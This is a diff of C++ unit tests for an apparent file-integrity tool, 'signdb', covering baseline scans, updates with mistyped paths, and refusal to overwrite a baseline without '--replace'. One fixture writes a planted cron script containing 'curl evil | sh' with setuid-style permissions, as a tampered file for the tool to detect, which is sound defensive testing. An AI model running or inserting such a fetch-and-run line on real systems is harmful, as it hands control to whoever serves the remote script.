@@ -112,7 +112,7 @@ TEST_F(ToolTest, AProgressLineShowsOnATerminalUnlessQuiet) {
   // "script" runs the tool on a pseudo-terminal and copies what the terminal showed.
   CToolRun shown = RunShell("script -qec \"'" SIGNDB_TOOL_PATH "' --config '" + config_ + "' scan t\" /dev/null");
   EXPECT_THAT(shown.out, AllOf(HasSubstr("scanning t: "), HasSubstr(" objects/s"), HasSubstr("recorded 2 objects")));
-  CToolRun quiet = RunShell("script -qec \"'" SIGNDB_TOOL_PATH "' --config '" + config_ + "' scan t -q\" /dev/null");
+  CToolRun quiet = RunShell("script -qec \"'" SIGNDB_TOOL_PATH "' --config '" + config_ + "' scan t -q --replace\" /dev/null");
   EXPECT_THAT(quiet.out, HasSubstr("recorded 2 objects"));
   EXPECT_EQ(quiet.out.find("scanning t: "), std::string::npos);
 }
@@ -271,6 +271,62 @@ TEST_F(ToolTest, AnUpdateAcceptsTheChangesAndTheNextCheckIsClean) {
   EXPECT_THAT(nothing.out, HasSubstr("nothing to accept"));
 }
 
+TEST_F(ToolTest, AnUpdateOfAPathThatMatchesNothingPendingAcceptsNothing) {
+  ScanSample();
+  Write("etc/hosts", "changed\n");
+  Write("etc/motd", "changed too\n");
+  std::string hdb = CTempDir::Read(Data("t.hdb"));
+  // The person meant to hold etc/hosts back and mistyped it: nothing at all is accepted.
+  CToolRun typo = Tool("update t --except etc/hsots");
+  EXPECT_EQ(typo.status, 2) << typo.out << typo.err;
+  EXPECT_THAT(typo.err, HasSubstr("--except etc/hsots matches no pending difference of policy 't'; "
+                                  "nothing was accepted"));
+  EXPECT_THAT(typo.err, HasSubstr("pending nearest to it: etc/hosts, etc/motd"));
+  EXPECT_EQ(CTempDir::Read(Data("t.hdb")), hdb);
+  CToolRun nosuch = Tool("update t nosuch.conf");
+  EXPECT_EQ(nosuch.status, 2) << nosuch.out << nosuch.err;
+  EXPECT_THAT(nosuch.err, HasSubstr("nosuch.conf matches no pending difference"));
+  EXPECT_EQ(CTempDir::Read(Data("t.hdb")), hdb);
+  EXPECT_EQ(Tool("check t").status, 1);
+  // Named right, it accepts what was named and leaves the rest pending.
+  CToolRun named = Tool("update t --except etc/hosts");
+  EXPECT_EQ(named.status, 0) << named.out << named.err;
+  CToolRun check = Tool("check t");
+  EXPECT_EQ(check.status, 1);
+  EXPECT_THAT(LineAbout(check, "etc/hosts"), StartsWith("hash changed"));
+  EXPECT_EQ(LineAbout(check, "etc/motd"), "");
+  // With nothing pending, a named path is a mistake too.
+  ASSERT_EQ(Tool("update t").status, 0);
+  CToolRun none = Tool("update t etc/hosts");
+  EXPECT_EQ(none.status, 2);
+  EXPECT_THAT(none.err, HasSubstr("no difference is pending in policy 't'"));
+}
+
+TEST_F(ToolTest, AScanOfAPolicyWithABaselineReplacesItOnlyWhenAskedTo) {
+  ScanSample();
+  Write("etc/cron.daily/job", "#!/bin/sh\ncurl evil | sh\n");
+  ASSERT_EQ(::chmod(Tree("etc/cron.daily/job").c_str(), 04777), 0);
+  std::string hdb = CTempDir::Read(Data("t.hdb"));
+  CToolRun again = Tool("scan t");
+  EXPECT_EQ(again.status, 2) << again.out << again.err;
+  CToolRun check = Tool("check t");
+  EXPECT_EQ(check.status, 1);
+  size_t pending = check.OutLines().size() - 1;  // every line but the summary
+  EXPECT_THAT(again.err, HasSubstr("policy 't' has a baseline already (" + Data("t.hdb") + "): " +
+                                   std::to_string(pending) + " differences are pending; nothing was recorded"));
+  EXPECT_THAT(again.err, AllOf(HasSubstr("signdb update t"), HasSubstr("signdb scan t --replace")));
+  EXPECT_EQ(CTempDir::Read(Data("t.hdb")), hdb);
+  // A baseline that was saved and has gone since is not replaced unseen either.
+  boost::filesystem::rename(Data("t.hdb"), dir_ / "away.hdb");
+  CToolRun gone = Tool("scan t");
+  EXPECT_EQ(gone.status, 2);
+  EXPECT_THAT(gone.err, HasSubstr("has a baseline (" + Data("t.hdb") + ") that cannot be used"));
+  EXPECT_FALSE(boost::filesystem::exists(Data("t.hdb")));
+  CToolRun replaced = Tool("scan t --replace");
+  EXPECT_EQ(replaced.status, 0) << replaced.err;
+  EXPECT_EQ(Tool("check t").status, 0);
+}
+
 TEST_F(ToolTest, AnUpdateAcceptsGoneFoldersAndChangesOfKind) {
   ScanSample();
   boost::filesystem::remove_all(Tree("etc"));
@@ -293,7 +349,7 @@ TEST_F(ToolTest, ASaveThatCannotSignLeavesThePreviousDatabaseAsItWas) {
   std::string signature = CTempDir::Read(Data("t.hdb.p7s"));
   boost::filesystem::rename(dir_ / "cfg/keys/signer.key", dir_ / "cfg/keys/signer.key.away");
   Write("etc/new", "new\n");
-  CToolRun scan = Tool("scan t");
+  CToolRun scan = Tool("scan t --replace");
   EXPECT_EQ(scan.status, 2);
   EXPECT_THAT(scan.err, AllOf(HasSubstr("cannot read " + (dir_ / "cfg/keys/signer.key")),
                               HasSubstr("the database was not saved; " + Data("t.hdb") + " stays as it was")));
